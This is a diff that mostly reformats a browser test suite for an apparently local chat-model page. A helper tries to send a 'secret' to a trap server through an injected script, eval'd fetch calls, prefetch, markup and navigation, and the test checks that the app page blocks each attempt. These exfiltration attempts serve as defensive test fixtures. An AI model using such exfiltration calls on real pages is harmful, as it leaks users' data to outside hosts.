@@ -98,7 +98,9 @@ async function tryToLeave(origin) {
     script.textContent = `fetch("http://${origin}/script?secret", { mode: "no-cors" })`;
     document.body.append(script);
   });
-  await attempt("eval", () => (0, eval)(`fetch("http://${origin}/eval?secret", { mode: "no-cors" })`));
+  await attempt("eval", () =>
+    (0, eval)(`fetch("http://${origin}/eval?secret", { mode: "no-cors" })`),
+  );
   await attempt("prefetch", () => {
     const link = document.createElement("link");
     Object.assign(link, { rel: "prefetch", href: `http://${origin}/prefetch?secret` });
@@ -139,29 +141,36 @@ test(
   },
 );
 
-test("nor by a form, a peer, markup, a script, or another address", { timeout: PATIENCE_MS }, async (t) => {
-  const [server, caught, browser] = await Promise.all([serveSmall(), trap(), launch()]);
-  t.after(() => Promise.all([browser.close(), server.close(), caught.close()]));
-  assert.ok(server.model, "APPRENTICE_SMALL_MODEL is not set: the test has no model");
-  const free = await (await browser.newContext()).newPage();
-  await free.goto(`http://${caught.origin}/`);
-  caught.arrived.length = 0;
-  await free.evaluate(tryToLeave, caught.origin);
-  for (const way of LEAVING) assert.ok(caught.arrived.includes(way), `the trap missed ${way}`);
+test(
+  "nor by a form, a peer, markup, a script, or another address",
+  { timeout: PATIENCE_MS },
+  async (t) => {
+    const [server, caught, browser] = await Promise.all([serveSmall(), trap(), launch()]);
+    t.after(() => Promise.all([browser.close(), server.close(), caught.close()]));
+    assert.ok(server.model, "APPRENTICE_SMALL_MODEL is not set: the test has no model");
+    const free = await (await browser.newContext()).newPage();
+    await free.goto(`http://${caught.origin}/`);
+    caught.arrived.length = 0;
+    await free.evaluate(tryToLeave, caught.origin);
+    for (const way of LEAVING) assert.ok(caught.arrived.includes(way), `the trap missed ${way}`);
 
-  const page = await open(await browser.newContext(), `${server.url}?device=cpu${server.query}`);
-  await ready(page);
-  caught.arrived.length = 0;
-  const ways = await page.evaluate(tryToLeave, caught.origin);
-  assert.deepEqual(caught.arrived, [], JSON.stringify(ways));
-  assert.match(ways.markup, /^refused: TypeError/);
-  // The page is still here after it was told to be elsewhere.
-  await page.evaluate((origin) => void (location.href = `http://${origin}/navigate?secret`), caught.origin);
-  await page.waitForTimeout(500);
-  assert.equal(new URL(page.url()).origin, new URL(server.url).origin);
-  await page.getByRole("textbox", { name: "Message" }).waitFor();
-  assert.deepEqual(caught.arrived, []);
-});
+    const page = await open(await browser.newContext(), `${server.url}?device=cpu${server.query}`);
+    await ready(page);
+    caught.arrived.length = 0;
+    const ways = await page.evaluate(tryToLeave, caught.origin);
+    assert.deepEqual(caught.arrived, [], JSON.stringify(ways));
+    assert.match(ways.markup, /^refused: TypeError/);
+    // The page is still here after it was told to be elsewhere.
+    await page.evaluate(
+      (origin) => void (location.href = `http://${origin}/navigate?secret`),
+      caught.origin,
+    );
+    await page.waitForTimeout(500);
+    assert.equal(new URL(page.url()).origin, new URL(server.url).origin);
+    await page.getByRole("textbox", { name: "Message" }).waitFor();
+    assert.deepEqual(caught.arrived, []);
+  },
+);
 
 test(
   "asking, teaching and learning make no request at all",
